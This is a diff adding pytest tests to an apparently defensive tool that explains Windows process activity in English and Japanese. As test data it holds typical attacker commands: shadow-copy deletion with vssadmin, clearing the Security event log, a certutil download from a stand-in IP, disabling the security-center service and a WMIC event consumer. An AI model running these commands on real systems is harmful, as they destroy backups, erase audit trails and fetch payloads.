@@ -283,3 +283,51 @@ def test_that_nothing_was_registered_is_said_only_where_it_would_be_seen() -> No
         told = said("programs_dropped", *rows, processes=LOADER, language=language)
         assert open_still in told["benign_explanation"]
         assert said_so not in told["benign_explanation"]
+
+
+def test_what_the_kernel_wrote_for_others_is_no_program_from_where_users_may_write() -> None:
+    kernel = {"System (4)": {"image_path": "System"}}
+    path = r"C:\Windows\helper.exe"
+    rows = [created(path, who="System (4)"), wrote(path, 0, 100, who="System (4)")]
+    told = said("programs_dropped", *rows, processes=kernel)
+    assert "for another computer that reaches a share" in told["meaning"]
+    assert "where users may write" not in " ".join(told.values())
+    japanese = said("programs_dropped", *rows, processes=kernel, language="ja")
+    assert "別のコンピューターのために" in japanese["meaning"]
+
+
+def test_a_service_that_was_disabled_is_lost_from_the_next_start_on() -> None:
+    told = said("protection_removed", service_value("wscsvc", "Start", 4, who="reg.exe (5)"))
+    assert told["meaning"].startswith("From the next start of Windows on, if not before, ")
+    assert (
+        "次に Windows を起動したときから"
+        in said("protection_removed", service_value("wscsvc", "Start", 4, who="reg.exe (5)"), language="ja")[
+            "meaning"
+        ]
+    )
+
+
+def commanded(name: str, line: str, language: str = "en") -> dict[str, str]:
+    who = f"{name} (9)"
+    start = Row("Process Start", detail="Parent PID: 4", who=who)
+    people = {who: {"command_line": line, "image_path": rf"C:\Windows\System32\{name}"}}
+    return said("command_line", start, processes=people, language=language)
+
+
+def test_only_arguments_of_powershell_are_called_so() -> None:
+    consumer = r'wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="x"'
+    assert "PowerShell" not in commanded("WMIC.exe", consumer)["statement"]
+    assert "PowerShell" not in commanded("WMIC.exe", consumer, "ja")["statement"]
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
+        ("wevtutil.exe", "wevtutil cl Security"),
+        ("certutil.exe", r"certutil -urlcache -split -f http://1.2.3.4/a.exe C:\Users\Public\a.exe"),
+    ],
+)
+def test_of_a_command_it_is_not_said_that_it_succeeded(name: str, line: str) -> None:
+    assert "where it succeeded" in commanded(name, line)["meaning"].lower()
+    assert "成功していれば" in commanded(name, line, "ja")["meaning"]
